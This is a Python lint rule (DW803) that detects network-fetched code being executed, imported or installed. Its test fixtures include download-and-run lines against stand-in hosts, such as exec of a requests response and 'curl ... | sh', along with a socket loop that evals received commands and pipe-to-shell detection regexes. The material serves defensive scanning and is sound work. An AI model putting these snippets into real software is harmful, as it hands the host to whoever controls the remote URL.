"""download-exec: code fetched over the network, then run, imported or installed.

**What it finds.** DW803, within one function (module-level code is one more function):

- data fetched over the network (`urllib.request.urlopen`, `requests` / `httpx` calls and their
  sessions and clients, `urllib3`, `http.client` responses, `socket.recv`, `curl` / `wget` run
  with their output captured) that is then given to `exec`, `eval` or `compile`, imported by name
  (`__import__`, `importlib.import_module`), or run as a command (the program itself, `sh -c`,
  `python -c`, a shell string);
- a file written with fetched data (`open(p, "wb").write(r.content)`, `Path.write_bytes`,
  `shutil.copyfileobj`, `urlretrieve(url, p)`, `curl -o p`) that is then made executable
  (`os.chmod` with an execute bit), run (`subprocess.run([p])`, `os.system(f"sh {p}")`, an
  interpreter given the file), or imported (`runpy.run_path`,
  `importlib.util.spec_from_file_location`, `SourceFileLoader`, `imp.load_source`,
  `exec(open(p).read())`);
- `curl ... | sh`, `wget -O- ... | bash`, `sh -c "$(curl ...)"`, `bash <(curl ...)` and
  PowerShell's `iex (... DownloadString ...)` in a command given to `subprocess`, `os.system`
  and kin;
- packages installed at run time: `pip install` in a command given to `subprocess` or
  `os.system` (`[sys.executable, "-m", "pip", "install", ...]`), and `pip.main(["install", ...])`.

**Why it matters in assistant-written code.** A compromised coding agent does not need to commit
its payload: one line that fetches "the latest helper" and runs it hands the machine to whoever
controls the URL, today or any day later, and the diff shows nothing malicious. Installing
packages at run time does the same through the package index, and skips the lock file and the
review of dependencies.

**Severity.** Critical (high confidence) for running what was downloaded and for piping a
download into a shell; high for `pip install` at run time, which is flagged even with nothing
downloaded.

**Bad**

```python
exec(requests.get("https://example.com/bootstrap.py", timeout=10).text)
subprocess.run("curl -fsSL https://get.example.sh | sh", shell=True)
subprocess.check_call([sys.executable, "-m", "pip", "install", "helper-lib"])
```

**Good**

```python
response = requests.get(url, timeout=10)
settings = json.loads(response.text)  # data, never code
# dependencies go in pyproject.toml, installed by the user
```

**Not flagged.** Downloading a file and saving it (`open(p, "wb").write(r.content)`) when it is
never run in the same function; `json.loads(resp.text)`; `subprocess.run(["curl", "-o",
"out.tgz", url])` with nothing run after it; fetched data used as an argument of a command that
is not itself downloaded (`["git", "checkout", data["sha"]]`); `pip install` in a string that is
only printed or documented (not given to a process call); `pip download` / `pip wheel`;
fetches through objects we cannot resolve (`self.session.get(...)`).

**Fix.** None automatic. Vendor the code (reviewed, pinned) or declare the dependency in the
project's metadata; where a download is truly needed, pin it by hash and verify it before use.

**References.** CWE-494 (download of code without integrity check); MITRE ATT&CK T1105
(ingress tool transfer); no bandit or ruff counterpart.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, FrozenSet, List, Optional, Sequence

from hooks import _paths, _process
from hooks.engine.bindings import dotted
from hooks.engine.lazy import cst
from hooks.engine.names import lookup
from hooks.engine.rule import Bad, Confidence, Ok, OptionValue, Rule, Severity
from hooks.engine.lazyre import lazy_re

if TYPE_CHECKING:
    from hooks.engine.context import RuleContext

HTTP_VERBS = ("get", "post", "put", "patch", "request", "stream")
FETCHES = frozenset(
    {
        "urllib.request.urlopen", "urllib2.urlopen", "urllib.urlopen", "urllib3.request",
        *(f"{lib}.{verb}" for lib in ("requests", "requests.api", "httpx") for verb in HTTP_VERBS),
    }
)  # fmt: skip
# constructors of objects whose methods fetch -> those methods
CLIENTS: Dict[str, FrozenSet[str]] = {
    **{
        name: frozenset(HTTP_VERBS)
        for name in (
            "requests.Session", "requests.session", "httpx.Client", "httpx.AsyncClient",
            "aiohttp.ClientSession", "urllib3.PoolManager",
        )
    },
    "urllib.request.build_opener": frozenset({"open"}),
    "http.client.HTTPConnection": frozenset({"getresponse"}),
    "http.client.HTTPSConnection": frozenset({"getresponse"}),
}  # fmt: skip
SOCKET_READS = frozenset({"recv", "recvfrom", "recvmsg"})
# calls that hand back (a form of) the data they are given
TRANSFORMS = frozenset(
    {
        "builtins.str", "builtins.bytes", "json.loads", "base64.b64decode", "base64.decodebytes",
        "zlib.decompress", "gzip.decompress", "lzma.decompress", "bz2.decompress",
        "marshal.loads", "codecs.decode", "textwrap.dedent", "io.BytesIO", "io.StringIO",
    }
)  # fmt: skip
CODE_RUNNERS = {"builtins.exec": "exec", "builtins.eval": "eval", "builtins.compile": "compile"}
IMPORTERS = {"builtins.__import__": "__import__", "importlib.import_module": "import_module"}
# function -> (position, keyword) of the file it imports or runs
FILE_LOADERS = {
    "runpy.run_path": (0, "path_name"),
    "importlib.util.spec_from_file_location": (1, "location"),
    "importlib.machinery.SourceFileLoader": (1, "path"),
    "importlib.machinery.SourcelessFileLoader": (1, "path"),
    "imp.load_source": (1, "pathname"),
    "imp.load_compiled": (1, "pathname"),
    "zipimport.zipimporter": (0, "path"),
    "os.startfile": (0, "path"),
}
PIPES = frozenset({"subprocess.PIPE", "asyncio.subprocess.PIPE"})
CHMODS = frozenset({"os.chmod", "os.lchmod"})
EXEC_BITS = frozenset(
    f"stat.{name}"
    for name in ("S_IXUSR", "S_IXGRP", "S_IXOTH", "S_IEXEC", "S_IRWXU", "S_IRWXG", "S_IRWXO")
)
# calls that name the path they are given
PATH_WRAPPERS = frozenset(
    {*_paths.PATH_CLASSES, "builtins.str", "os.fspath", "os.path.abspath", "os.path.realpath"}
)
PIP_MAINS = frozenset(
    {"pip.main", "pip._internal.main", "pip._internal.main.main", "pip._internal.cli.main.main"}
)
DOWNLOADERS = lazy_re(r"^(?:.*/)?(?:curl|wget)(?:\.exe)?$")
OUTPUT_OPTIONS = frozenset({"-o", "--output", "-O", "--output-document"})
INTERPRETERS = lazy_re(
    r"^(?:.*/)?(?:(?:ba|z|da|k)?sh|python[\d.]*|pythonw|py|perl|ruby|node|pwsh|powershell"
    r"|cmd)(?:\.exe)?$|^\x00$"
)
MARK = "\x01"
# a shell running (or making executable) the file at MARK
SHELL_RUNS_MARK = lazy_re(
    r"(?:^|[;&|(`]\s*|\b(?:exec|sudo|nohup|source|\.)\s+"
    r"|\b(?:ba|z|da|k)?sh\s+(?:-\S+\s+)*|\bpython[\d.]*\s+(?:-\S+\s+)*"
    r"|\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rw]*x\w*|[0-7]?[0-7]*[1357][0-7]{0,2})\s+)" + MARK
)
PIP_INSTALL = lazy_re(r"(?:^|[\s/\\'\"])pip[\d.]*(?:\.exe)?(?:\s+-\S+)*\s+install\b")
PIPE_TO_SHELL = lazy_re(
    r"\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?"
    r"(?:(?:ba|z|da|k)?sh|python[\d.]*)\b"
    r"|\b(?:ba|z|da|k)?sh\s+(?:-c\s+)?[\"']?(?:\$\(|<\()\s*(?:curl|wget)\b"
    r"|\b(?:iex|invoke-expression)\b.*\b(?:downloadstring|iwr|invoke-webrequest|irm"
    r"|invoke-restmethod)\b",
    re.IGNORECASE,
)


@dataclass
class _Frame:
    """What one function has fetched, opened and written."""

    fetched: Dict[str, str] = field(default_factory=dict)  # name -> what fetched it
    # names of values with fetched data spliced in (`"x = " + r.text`)
    spliced: Dict[str, str] = field(default_factory=dict)
    clients: Dict[str, FrozenSet[str]] = field(default_factory=dict)  # name -> its fetching methods
    handles: Dict[str, str] = field(default_factory=dict)  # file object name -> path key
    downloads: Dict[str, str] = field(default_factory=dict)  # path key -> what fetched it


def _key(ctx: RuleContext, node: cst.BaseExpression) -> Optional[str]:
    """A path expression as something to compare: its text, or how it is spelled."""
    for _ in range(_paths.MAX_DEPTH):
        if not (isinstance(node, cst.Call) and node.args and not node.args[0].keyword):
            break
        if ctx.resolve(node.func) not in PATH_WRAPPERS or len(node.args) != 1:
            break
        node = node.args[0].value
    text = _paths.render(ctx, node)
    if _paths.HOLE not in text:
        return text
    spelled = dotted(node)
    if spelled:
        return "\x00" + spelled
    return "\x00" + cst.Module(body=[]).code_for_node(node)


def _exec_bit(ctx: RuleContext, node: cst.BaseExpression, depth: int = 0) -> bool:
    """Does a mode expression certainly set an execute bit?"""
    if depth > _paths.MAX_DEPTH:
        return False
    if isinstance(node, cst.Integer):
        return bool(node.evaluated_value & 0o111)
    if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, (cst.BitOr, cst.Add)):
        return _exec_bit(ctx, node.left, depth + 1) or _exec_bit(ctx, node.right, depth + 1)
    if isinstance(node, (cst.Name, cst.Attribute)) and ctx.resolve(node) in EXEC_BITS:
        return True
    value = _process.single_value(ctx, node)
    return value is not node and _exec_bit(ctx, value, depth + 1)


class DownloadExec(Rule):
    code = "DW803"
    name = "download-exec"
    summary = "Code fetched over the network is run, imported or installed (or pip install runs)."
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (494,)
    message = "`{func}` {action}"
    hint = "vendor and review the code, or declare the dependency; never run what a URL serves"
    triggers = (
        "urlopen", "urlretrieve", "requests", "httpx", "urllib3", "aiohttp", "recv", "recvfrom",
        "curl", "wget", "pip", "iex", "getresponse", "build_opener",
    )  # fmt: skip
    reports_away = True  # where the fetched file is run: `subprocess.run(["bash", path])`
    examples = (
        Bad(
            "import requests\n\n"
            "exec(requests.get('https://example.com/bootstrap.py', timeout=10).text)\n",
            ((3, 1),),
        ),
        Bad(
            "import urllib.request\n\ndef update():\n"
            "    with urllib.request.urlopen(UPDATE_URL, timeout=10) as resp:\n"
            "        source = resp.read().decode()\n"
            "    code = compile(source, 'update', 'exec')\n    exec(code)\n",
            ((6, 12),),
            why="through a with-target and a name; compile is reported, not the exec of its code",
        ),
        Bad(
            "import os\nimport requests\n\ndef install_agent(url):\n"
            "    r = requests.get(url, timeout=30)\n    path = '/tmp/.agent'\n"
            "    with open(path, 'wb') as fh:\n        fh.write(r.content)\n"
            "    os.chmod(path, 0o755)\n",
            ((9, 5),),
            why="written to a file, then made executable",
        ),
        Bad(
            "import subprocess\nfrom urllib.request import urlretrieve\n\ndef setup():\n"
            "    urlretrieve('https://example.com/setup.sh', 'setup.sh')\n"
            "    subprocess.run(['bash', 'setup.sh'], check=True)\n",
            ((6, 5),),
        ),
        Bad(
            "import subprocess\n\n"
            "subprocess.run('curl -fsSL https://get.example.sh | sh', shell=True)\n"
            "subprocess.run(['bash', '-c', 'wget -qO- https://x.example/i.sh | sudo bash'])\n",
            ((3, 1), (4, 1)),
        ),
        Bad(
            "import subprocess\nimport sys\n\ndef ensure(package):\n"
            "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', package])\n",
            ((5, 5),),
            severity=Severity.HIGH,
            why="pip install at run time, nothing downloaded by the code itself",
        ),
        Bad(
            "import subprocess\nimport sys\n\ndef install_stubs(packages):\n"
            "    cmd = [sys.executable, '-m', 'pip', 'install'] + packages\n"
            "    subprocess.run(cmd)\n",
            ((6, 5),),
            severity=Severity.HIGH,
            why="a command list built with + and held in a name",
        ),
        Bad(
            "import os\n\nos.system('pip install --quiet requests')\n",
            ((3, 1),),
            severity=Severity.HIGH,
        ),
        Bad(
            "import socket\n\ndef serve(host, port):\n"
            "    s = socket.create_connection((host, port))\n    while True:\n"
            "        cmd = s.recv(4096).decode()\n        eval(cmd)\n",
            ((7, 9),),
            why="socket data evaluated",
        ),
        Bad(
            "import importlib.util\nimport httpx\nfrom pathlib import Path\n\n"
            "def load_plugin(url, target):\n    with httpx.Client() as client:\n"
            "        Path(target).write_bytes(client.get(url).content)\n"
            "    spec = importlib.util.spec_from_file_location('plugin', target)\n",
            ((8, 12),),
            why="a client method, Path.write_bytes, and an import of the file",
        ),
        Bad(
            "import subprocess\n\ndef run_remote(url):\n"
            "    script = subprocess.check_output(['curl', '-s', url], text=True)\n"
            "    subprocess.run(['python3', '-c', script])\n",
            ((5, 5),),
            why="curl output captured, then run by python -c",
        ),
        Bad(
            "import os\nimport urllib.request\n\ndef bootstrap(url):\n"
            "    path = '/tmp/.cache-helper'\n    urllib.request.urlretrieve(url, path)\n"
            "    os.system(f'chmod +x {path} && {path} --quiet')\n",
            ((7, 5),),
            why="a shell script that makes the download executable and runs it",
        ),
        Bad(
            "import runpy\nfrom urllib.request import urlretrieve\n\ndef run_installer(url):\n"
            "    script, _ = urlretrieve(url)\n    runpy.run_path(script, run_name='__main__')\n",
            ((6, 5),),
            why="the temporary file urlretrieve picks, run as a script",
        ),
        Ok(
            "import os\nimport requests\n\ndef install_theme(url, dest):\n"
            "    archive = os.path.join(dest, 'theme.tgz')\n    with open(archive, 'wb') as fh:\n"
            "        fh.write(requests.get(url, timeout=30).content)\n"
            "    os.system(f'tar xzf {archive} -C {dest}')\n",
            why="a downloaded archive unpacked, not run",
        ),
        Ok(
            "import subprocess\nimport requests\n\ndef deploy(api):\n"
            "    sha = requests.get(api, timeout=10).json()['sha']\n"
            "    subprocess.run(f'git fetch && git checkout {sha}', shell=True, check=True)\n",
            why="fetched data spliced into a command line: command injection (DW102), not a "
            "download run",
        ),
        Ok(
            "import requests\n\ndef download(url, path):\n"
            "    r = requests.get(url, timeout=30)\n    r.raise_for_status()\n"
            "    with open(path, 'wb') as fh:\n        fh.write(r.content)\n",
            why="a CLI that downloads and saves a file",
        ),
        Ok(
            "import json\nimport urllib.request\n\ndef latest_version(url):\n"
            "    with urllib.request.urlopen(url, timeout=10) as resp:\n"
            "        return json.loads(resp.read())['version']\n",
        ),
        Ok(
            "import subprocess\n\n"
            "subprocess.run(['curl', '-fsSL', '-o', 'out.tgz', URL], check=True)\n",
            why="curl saving a file that is never run",
        ),
        Ok(
            "USAGE = '''\nInstall the extras first:\n\n    pip install mytool[all]\n\n"
            "or run: curl -fsSL https://get.example.sh | sh\n'''\n\nprint(USAGE)\n",
            why="commands in documentation, never run",
        ),
        Ok(
            "import httpx\n\nclass ApiClient:\n    def __init__(self, base_url):\n"
            "        self.http = httpx.Client(base_url=base_url, timeout=10)\n\n"
            "    def run_job(self, job_id):\n"
            "        job = self.http.get(f'/jobs/{job_id}').json()\n"
            "        return self.http.post('/results', json={'id': job['id']}).json()\n",
            why="an HTTP client library calling its configured host",
        ),
        Ok(
            "import subprocess\nimport requests\n\ndef checkout(api):\n"
            "    data = requests.get(api, timeout=10).json()\n"
            "    subprocess.run(['git', 'checkout', data['sha']], check=True)\n",
            why="fetched data as an argument of a local program, not as the program",
        ),
        Ok(
            "import os\nimport requests\n\ndef fetch_tool(url, path):\n"
            "    open(path, 'wb').write(requests.get(url, timeout=30).content)\n\n"
            "def make_runnable(script):\n    os.chmod(script, 0o755)\n",
            why="the chmod is in another function, on another path",
        ),
        Ok(
            "import socket\n\ndef test_echo(server):\n"
            "    with socket.create_connection(server.address) as s:\n"
            "        s.sendall(b'ping')\n        assert s.recv(4) == b'ping'\n",
            why="a test that uses sockets",
        ),
        Ok(
            "import subprocess\nimport sys\n\n"
            "subprocess.check_call([sys.executable, '-m', 'pip', 'download', '-d', 'wheels', "
            "'pkg'])\nsubprocess.run(['pipx', 'install', 'tool'])\n",
            why="pip download, and pipx (an application installer the user runs)",
        ),
        Ok(
            "import requests\n\ndef ping(exec, url):\n    exec(requests.get(url).text)\n",
            why="a parameter shadows the builtin",
        ),
    )

    def __init__(self, ctx: RuleContext, options: Dict[str, OptionValue]) -> None:
        super().__init__(ctx, options)
        self.frames: List[_Frame] = []

    def visit_Module(self, node: cst.Module) -> None:
        self.frames.append(_Frame())

    def leave_Module(self, node: cst.Module) -> None:
        self.frames.pop()

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.frames.append(_Frame())

    def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.frames.pop()

    # what gets bound

    def visit_Assign(self, node: cst.Assign) -> None:
        for target in node.targets:
            self._bind(target.target, node.value)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        if node.value is not None:
            self._bind(node.target, node.value)

    def visit_AugAssign(self, node: cst.AugAssign) -> None:
        self._bind(node.target, node.value)

    def visit_WithItem(self, node: cst.WithItem) -> None:
        if node.asname is not None:
            self._bind(node.asname.name, node.item)

    def visit_For(self, node: cst.For) -> None:
        self._bind(node.target, node.iter)

    def _bind(self, target: cst.BaseExpression, value: cst.BaseExpression) -> None:
        frame = self.frames[-1]
        if isinstance(value, cst.Await):
            value = value.expression
        if isinstance(target, (cst.Tuple, cst.List)):
            self._bind_tuple(target, value)
            return
        if not isinstance(target, cst.Name):
            return
        name = target.value
        source = self._fetched(value, whole=True)
        if source is not None:
            frame.fetched[name] = source
            return
        source = self._fetched(value)
        if source is not None:
            frame.spliced[name] = source
            return
        if isinstance(value, cst.Call):
            func = self.ctx.resolve(value.func)
            if func in CLIENTS:
                frame.clients[name] = CLIENTS[func]
                return
            written = _paths.written_path(self.ctx, value)
            if written is not None and written[0] in ("open", "io.open", "Path.open"):
                key = _key(self.ctx, written[1])
                if key is not None:
                    frame.handles[name] = key

    def _bind_tuple(self, target: "cst.Tuple | cst.List", value: cst.BaseExpression) -> None:
        """`path, _ = urlretrieve(url)`: the file; `data, addr = s.recvfrom(n)`: fetched."""
        names = [el.value for el in target.elements if isinstance(el.value, cst.Name)]
        if not names:
            return
        frame = self.frames[-1]
        if isinstance(value, cst.Call) and self.ctx.resolve(value.func) == (
            "urllib.request.urlretrieve"
        ):
            first = target.elements[0].value
            if isinstance(first, cst.Name):
                frame.downloads["\x00" + first.value] = "`urllib.request.urlretrieve`"
            return
        source = self._fetched(value, whole=True)
        if source is not None:
            for name in names:
                frame.fetched[name.value] = source

    # where fetched data comes from

    def _fetched(
        self, node: cst.BaseExpression, depth: int = 0, whole: bool = False
    ) -> Optional[str]:
        """What fetched `node` over the network ("`requests.get`"), None when nothing did.

        `whole`: only a value that is all fetched data, not one with fetched data spliced in.
        """
        if depth > _paths.MAX_DEPTH:
            return None
        more = depth + 1
        if isinstance(node, cst.Await):
            return self._fetched(node.expression, more, whole)
        if isinstance(node, cst.Name):
            return self._fetched_name(node.value, whole)
        if isinstance(node, (cst.Attribute, cst.Subscript)):
            return self._fetched(node.value, more, whole)
        if whole:
            return self._fetched_call(node, more, whole) if isinstance(node, cst.Call) else None
        if isinstance(node, cst.BinaryOperation):
            return self._fetched(node.left, more) or self._fetched(node.right, more)
        if isinstance(node, cst.FormattedString):
            for part in node.parts:
                if isinstance(part, cst.FormattedStringExpression):
                    found = self._fetched(part.expression, more)
                    if found is not None:
                        return found
            return None
        if isinstance(node, cst.Call):
            return self._fetched_call(node, more, whole)
        return None

    def _fetched_name(self, name: str, whole: bool) -> Optional[str]:
        _, at_module = lookup(name, self.ctx.scopes)
        frame = self.frames[0] if at_module else self.frames[-1]
        found = frame.fetched.get(name)
        return frame.spliced.get(name) if found is None and not whole else found

    def _fetched_call(self, node: cst.Call, depth: int, whole: bool) -> Optional[str]:
        func = _process.resolve(self.ctx, node.func)
        if func in FETCHES:
            return f"`{func}`"
        if func in TRANSFORMS:
            return self._fetched(node.args[0].value, depth, whole) if node.args else None
        if func in _process.RUNNERS:
            return self._captured_download(node, func)
        if func is not None or not isinstance(node.func, cst.Attribute):
            return None
        method, owner = node.func.attr.value, node.func.value
        if method in SOCKET_READS:
            return f"`.{method}()`"
        if isinstance(owner, cst.Name):
            methods = self.frames[-1].clients.get(owner.value, frozenset())
            if method in methods:
                return f"`{owner.value}.{method}`"
        return self._fetched(owner, depth, whole)

    def _captured_download(self, node: cst.Call, func: str) -> Optional[str]:
        """`curl` or `wget` run with its output captured: the output is the download."""
        found = _process.command(self.ctx, node, func)
        if found is None or not found.parts:
            return None
        program = _process.part_text(self.ctx, found.parts[0])
        if found.shell:
            program = program.split(" ", 1)[0]
        if not DOWNLOADERS.match(program):
            return None
        return f"`{program.rsplit('/', 1)[-1]}`" if self._captures(node, func) else None

    def _captures(self, node: cst.Call, func: str) -> bool:
        if func in ("subprocess.check_output", "subprocess.getoutput", "os.popen"):
            return True
        if func not in _process.SUBPROCESS and func != "asyncio.create_subprocess_exec":
            return False
        if self.ctx.truthy_constant(self.ctx.argument(node, None, "capture_output")):
            return True
        stdout = self.ctx.argument(node, None, "stdout")
        return stdout is not None and self.ctx.resolve(stdout.value) in PIPES

    # what is done with it

    def visit_Call(self, node: cst.Call) -> None:
        func = self.ctx.resolve(node.func)
        if func in CODE_RUNNERS or func in IMPORTERS:
            self._runs_code(node, func)
        elif func in _process.RUNNERS:
            self._runs_process(node, func)
        elif func in CHMODS:
            path = self.ctx.argument(node, 0, "path")
            self._chmod(node, func, path.value if path is not None else None, 1)
        elif func in FILE_LOADERS:
            position, keyword = FILE_LOADERS[func]
            self._loads_file(node, func, self.ctx.argument(node, position, keyword))
        elif func in PIP_MAINS:
            self._pip_main(node, func)
        elif func == "urllib.request.urlretrieve":
            target = self.ctx.argument(node, 1, "filename")
            key = _key(self.ctx, target.value) if target is not None else None
            if key is not None:
                self.frames[-1].downloads[key] = f"`{func}`"
        elif func == "shutil.copyfileobj":
            self._copy(node)
        elif func is None and isinstance(node.func, cst.Attribute):
            self._method(node, node.func)

    def _runs_code(self, node: cst.Call, func: str) -> None:
        arg = self.ctx.argument(node, 0, "name" if func in IMPORTERS else "source")
        if arg is None:
            return
        source = self._fetched(arg.value)
        name = CODE_RUNNERS.get(func) or IMPORTERS[func]
        if source is not None:
            verb = "imports a module named by" if func in IMPORTERS else "runs code"
            self.report(node, func=name, action=f"{verb} fetched over the network ({source})")
            return
        read = self._reads_download(arg.value)
        if read is not None:
            self.report(node, func=name, action=f"runs a file downloaded with {read}")

    def _reads_download(self, node: cst.BaseExpression) -> Optional[str]:
        """`open(p).read()` / `Path(p).read_text()` of a downloaded file: what downloaded it."""
        if not (isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute)):
            return None
        if node.func.attr.value not in ("read", "read_text", "read_bytes"):
            return None
        owner = node.func.value
        path: Optional[cst.BaseExpression] = None
        if isinstance(owner, cst.Call):
            read = _paths.read_path(self.ctx, owner)
            path = read[1] if read is not None else owner
        else:
            path = owner
        return self._download(path)

    def _download(self, path: Optional[cst.BaseExpression]) -> Optional[str]:
        if path is None:
            return None
        key = _key(self.ctx, path)
        return self.frames[-1].downloads.get(key) if key is not None else None

    def _runs_process(self, node: cst.Call, func: str) -> None:
        found = _process.command(self.ctx, node, func)
        if found is None or not found.parts:
            return
        text = _process.text(self.ctx, found)
        if PIPE_TO_SHELL.search(text):
            self.report(node, func=func, action="pipes a download into a shell")
            return
        if PIP_INSTALL.search(text):
            self.report(
                node, severity=Severity.HIGH, func=func, action="installs packages at run time"
            )
            return
        action = self._runs_fetched(found) or self._runs_downloaded(found)
        if action is not None:
            self.report(node, func=func, action=action)
            return
        self._curl_output(found)

    def _script(self, found: _process.Command) -> Optional[cst.BaseExpression]:
        """What a shell reads: the string given to it, or the script after `sh -c`."""
        parts = found.parts
        if not found.shell:
            return None
        if len(parts) >= 3 and _process.part_text(self.ctx, parts[1]) == "-c":
            return parts[2]
        return parts[0]

    def _runs_fetched(self, found: _process.Command) -> Optional[str]:
        """The program, a shell's script or `python -c`'s code fetched over the network (data
        spliced into a command line is command injection, not this rule's business)."""
        parts = found.parts
        texts = [_process.part_text(self.ctx, p) for p in parts]
        script = self._script(found)
        if script is not None:
            scripts: Sequence[cst.BaseExpression] = [script]
        elif len(parts) >= 3 and INTERPRETERS.match(texts[0]) and texts[1] in ("-c", "-e"):
            scripts = [parts[2]]
        else:
            scripts = parts[:1]
        for part in scripts:
            source = self._fetched(part, whole=True)
            if source is not None:
                return f"runs a command fetched over the network ({source})"
        return None

    def _runs_downloaded(self, found: _process.Command) -> Optional[str]:
        """The program, the script an interpreter is given, or a file a shell script runs
        (or makes executable) is a downloaded file."""
        downloads = self.frames[-1].downloads
        if not downloads:
            return None
        parts = found.parts
        script = self._script(found)
        if script is None:
            candidates = list(parts[:1])
            if len(parts) >= 2 and INTERPRETERS.match(_process.part_text(self.ctx, parts[0])):
                candidates.append(parts[1])
            for candidate in candidates:
                source = self._download(candidate)
                if source is not None:
                    return f"runs a file downloaded with {source}"
            return None
        marked = self._marked(script, 0)
        if SHELL_RUNS_MARK.search(marked):
            return f"runs a file downloaded with {next(iter(downloads.values()))}"
        return None

    def _marked(self, node: cst.BaseExpression, depth: int) -> str:
        """A shell script's text with MARK where a downloaded file is named."""
        if depth > _paths.MAX_DEPTH:
            return _paths.HOLE
        if self._download(node) is not None:
            return MARK
        if isinstance(node, cst.FormattedString):
            return "".join(
                part.value
                if isinstance(part, cst.FormattedStringText)
                else self._marked(part.expression, depth + 1)
                if isinstance(part, cst.FormattedStringExpression)
                else _paths.HOLE
                for part in node.parts
            )
        if isinstance(node, cst.BinaryOperation) and isinstance(node.operator, cst.Add):
            return self._marked(node.left, depth + 1) + self._marked(node.right, depth + 1)
        text = _paths.render(self.ctx, node)
        for key in self.frames[-1].downloads:
            if not key.startswith("\x00"):
                text = text.replace(key, MARK)
        return text

    def _curl_output(self, found: _process.Command) -> None:
        """`curl -o path URL`: remember the file it writes."""
        texts = [_process.part_text(self.ctx, p) for p in found.parts]
        if found.shell or not texts or not DOWNLOADERS.match(texts[0]):
            return
        for index, text in enumerate(texts[:-1]):
            if text in OUTPUT_OPTIONS and texts[index + 1] != "-":
                key = _key(self.ctx, found.parts[index + 1])
                if key is not None:
                    self.frames[-1].downloads[key] = f"`{texts[0].rsplit('/', 1)[-1]}`"

    def _chmod(
        self, node: cst.Call, func: str, path: Optional[cst.BaseExpression], position: int
    ) -> None:
        mode = self.ctx.argument(node, position, "mode")
        if path is None or mode is None or not _exec_bit(self.ctx, mode.value):
            return
        source = self._download(path)
        if source is not None:
            action = f"makes a file downloaded with {source} executable"
            self.report(node, func=func, action=action)

    def _loads_file(self, node: cst.Call, func: str, path: Optional[cst.Arg]) -> None:
        source = self._download(path.value) if path is not None else None
        if source is not None:
            self.report(node, func=func, action=f"loads a file downloaded with {source}")

    def _pip_main(self, node: cst.Call, func: str) -> None:
        arg = self.ctx.argument(node, 0, "args")
        if arg is None:
            return
        value = _process.single_value(self.ctx, arg.value)
        if isinstance(value, (cst.List, cst.Tuple)) and value.elements:
            if _paths.render(self.ctx, value.elements[0].value) == "install":
                self.report(
                    node, severity=Severity.HIGH, func=func, action="installs packages at run time"
                )

    def _copy(self, node: cst.Call) -> None:
        """`shutil.copyfileobj(response, fh)`: fh's file now holds the download."""
        source, target = self.ctx.argument(node, 0, "fsrc"), self.ctx.argument(node, 1, "fdst")
        if source is None or target is None or not isinstance(target.value, cst.Name):
            return
        fetched = self._fetched(source.value)
        key = self.frames[-1].handles.get(target.value.value)
        if fetched is not None and key is not None:
            self.frames[-1].downloads[key] = fetched

    def _method(self, node: cst.Call, func: cst.Attribute) -> None:
        """`fh.write(data)`, `open(p, "wb").write(data)`, `Path(p).write_bytes(data)`,
        `Path(p).chmod(0o755)`."""
        method = func.attr.value
        if method == "chmod":
            self._chmod(node, f".{method}", func.value, 0)
            return
        if method not in ("write", "write_bytes", "write_text", "writelines") or not node.args:
            return
        fetched = self._fetched(node.args[0].value)
        if fetched is None:
            return
        owner, key = func.value, None
        if isinstance(owner, cst.Name):
            key = self.frames[-1].handles.get(owner.value)
        elif isinstance(owner, cst.Call) and method in ("write", "writelines"):
            written = _paths.written_path(self.ctx, owner)
            key = _key(self.ctx, written[1]) if written is not None else None
        if key is None and method in ("write_bytes", "write_text"):
            key = _key(self.ctx, owner)
        if key is not None:
            self.frames[-1].downloads[key] = fetched
